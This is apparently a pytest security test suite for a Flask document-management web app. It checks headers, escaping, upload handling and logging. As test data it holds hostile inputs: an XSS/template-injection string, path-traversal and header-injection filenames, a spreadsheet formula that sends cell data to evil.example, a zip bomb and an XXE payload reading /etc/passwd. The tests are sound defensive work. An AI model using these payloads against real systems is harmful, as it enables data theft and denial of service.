"""What every answer carries, what no page holds, and files from outside that mean harm."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from flask.testing import FlaskClient

import web
from docgen.records.archive import KeptFile, Origin, Snapshot, keep
from docgen.records.register import Details, NumberRequest, confirm, reserve
from docgen.records.rights import Role
from tests.web.office import DAY, HERE, LIST, OPERATOR, PASSWORD, Office
from web.downloads import PDF, attachment

_WEB = Path(web.__file__).parent
_PAGES = (
    "/", "/soan", "/so", "/kho", "/kiem-tra", "/co-quan", "/danh-muc/nguoi-ky", "/mau",
    "/nguoi-dung", "/nguoi-dung/nhat-ky", "/khoa-api", "/api", "/mat-khau", "/khong-co",
)  # fmt: skip


@pytest.fixture
def everybody(office: Office) -> list[FlaskClient]:
    """A browser of every role."""
    return [office.role(role) for role in Role]


def test_every_answer_forbids_what_pages_do_not_need(
    office: Office, everybody: list[FlaskClient]
) -> None:
    addresses = [
        *_PAGES,
        "/healthz",
        "/metrics",
        "/static/desk.css",
        "/api/v1/papers",
        "/dang-nhap",
    ]
    for client in (office.client(), *everybody):
        for address in addresses:
            with client.get(address) as answer:
                headers = answer.headers
            policy = headers["Content-Security-Policy"]
            assert policy.startswith("default-src 'none'")
            assert "unsafe" not in policy
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["X-Frame-Options"] == "DENY"
            assert headers["Referrer-Policy"] == "same-origin"
            if not address.startswith("/static"):
                assert headers["Cache-Control"] == "no-store"


def test_no_page_holds_code_or_style(office: Office, everybody: list[FlaskClient]) -> None:
    drafts = [f"/soan/{office.draft(content).id}" for content in (LIST,)]
    for client in (office.client(), *everybody):
        for address in (*_PAGES, *drafts):
            page = client.get(address).text
            assert re.search(r"<script(?![^>]*\bsrc=)", page) is None, address
            assert re.search(r"<style|\sstyle=|\son\w+=|javascript:", page) is None, address
            for source in re.findall(r"(?:src|href)=\"([^\"]+)\"", page):
                assert not re.match(r"(?:\w+:)?//", source), f"{address} fetches {source}"


def test_scripts_evaluate_nothing_and_fetch_nothing_from_elsewhere() -> None:
    for script in (_WEB / "static").glob("*.js"):
        text = script.read_text(encoding="utf-8")
        assert re.search(r"\beval\(|new Function|innerHTML|outerHTML|insertAdjacentHTML|document\.write", text) is None, script  # fmt: skip
        assert re.search(r"https?://", text) is None, script


def test_what_people_type_is_never_code(office: Office) -> None:
    clerk = office.role(Role.CLERK)
    evil = '"><script>alert(1)</script>{{ 7*7 }}'
    content = {**LIST, "papers": [{**LIST["papers"][0], "abstract": evil}]}
    draft = office.draft(content)
    for address in ("/", f"/soan/{draft.id}", f"/soan/{draft.id}/cac-ban", f"/kho?tu={evil}"):
        page = clerk.get(address).text
        assert "<script>alert" not in page, address
        assert "49" not in page.replace("{{ 7*7 }}", "").split("alert(1)")[-1][:20], address


@pytest.mark.parametrize(
    "name",
    ['a"; filename=x.exe', "../../etc/passwd", "a\r\nSet-Cookie: x=1", "…/\u202efdp.exe", ""],
)
def test_a_name_of_a_file_stays_a_name(office: Office, name: str) -> None:
    with office.app.test_request_context():
        header = attachment(b"x", f"{name}.pdf", PDF).headers["Content-Disposition"]
    found = re.fullmatch(
        r"attachment; filename=\"([\w.-]+)\"; filename\*=UTF-8''([\w.%-]+)", header
    )
    assert found
    assert ".." not in header.replace("..pdf", "")


def test_a_formula_in_the_register_stays_a_text_wherever_it_is_exported(office: Office) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1;"xem")'
    with office.records.desk(HERE, OPERATOR) as desk:
        wish = NumberRequest("x", "Kế hoạch", DAY, "{:02}/KH-UBND".format)
        entry = confirm(desk, reserve(desk, wish, Details(formula, formula, formula)).id)
        shot = Snapshot(
            "plan", "Kế hoạch", "state", DAY, formula, "x", "UBND",
            number_text=entry.number_text, signer=formula,
        )  # fmt: skip
        keep(desk, "x", shot, {"pdf": KeptFile("x.pdf", desk.store.put(b"x"))}, Origin(entry.id))
        series = entry.series_id
    clerk = office.role(Role.CLERK)
    with zipfile.ZipFile(io.BytesIO(clerk.get(f"/so/{series}.xlsx").data)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "sheets/" in name]
    assert any("HYPERLINK" in sheet for sheet in sheets)
    assert not any("<f>" in sheet for sheet in sheets)
    lines = clerk.get("/kho/ho-so.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in lines
    assert ',"=' not in lines
    assert ",=" not in lines


def _bomb(part: str, size: int) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr(part, b"<a>" + b" " * size + b"</a>")
    return packed.getvalue()


def _entity(part: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr(part, '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>')
    return packed.getvalue()


_HOSTILE = {
    "too much unpacked": lambda part: _bomb(part, 300 << 20),
    "an external entity": _entity,
    "no package": lambda _part: b"MZ" + b"\0" * 999,
    "half a package": lambda part: _entity(part)[:100],
    "nothing": lambda _part: b"",
}


@pytest.mark.parametrize("harm", _HOSTILE)
def test_a_hostile_workbook_is_refused_with_a_sentence(office: Office, harm: str) -> None:
    draft = office.draft(LIST)
    sent = office.role(Role.CLERK).post(
        f"/soan/{draft.id}/bang/tai-len?place=papers[0].individuals",
        data={"file": (io.BytesIO(_HOSTILE[harm]("xl/workbook.xml")), "a.xlsx")},
    )
    assert sent.status_code in (200, 422), harm
    assert "root:" not in sent.text


@pytest.mark.parametrize("harm", _HOSTILE)
def test_a_hostile_template_is_refused_with_a_sentence(office: Office, harm: str) -> None:
    template = _HOSTILE[harm]("word/document.xml")
    for address in ("/mau", "/mau/thu"):
        sent = office.role(Role.ADMIN).post(
            address, data={"template": "ke-hoach", "file": (io.BytesIO(template), "a.docx")}
        )
        assert sent.status_code == 422, harm
        assert "root:" not in sent.text


def test_what_is_too_large_is_not_even_read(office: Office) -> None:
    limit = office.services.settings.upload_bytes
    sent = office.role(Role.CLERK).post("/soan", data={"kind": "x" * (limit + 1)})
    assert sent.status_code == 413
    assert "quá lớn" in sent.text


def test_passwords_and_keys_are_nowhere_in_the_logs(
    office: Office, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    client = office.role(Role.ADMIN)
    page = client.post("/khoa-api", data={"name": "máy", "scopes": ["read"]}).text
    key = re.findall(r"docgen\.[\w.-]{40,}", page)[0]
    client.get("/api/v1/agency", headers={"Authorization": f"Bearer {key}"})
    office.client().post("/dang-nhap", data={"login": "x", "password": PASSWORD})
    assert key.rpartition(".")[2] not in caplog.text
    assert PASSWORD not in caplog.text


def test_methods_that_a_stranger_makes_up_are_counted_as_one(office: Office) -> None:
    client = office.client()
    for number in range(50):
        client.open("/healthz", method=f"X{number}")
    counted = re.findall(
        r'docgen_requests_total\{[^}]*method="([^"]+)"', client.get("/metrics").text
    )
    assert "other" in counted
    assert not any(method.startswith("X") for method in counted)
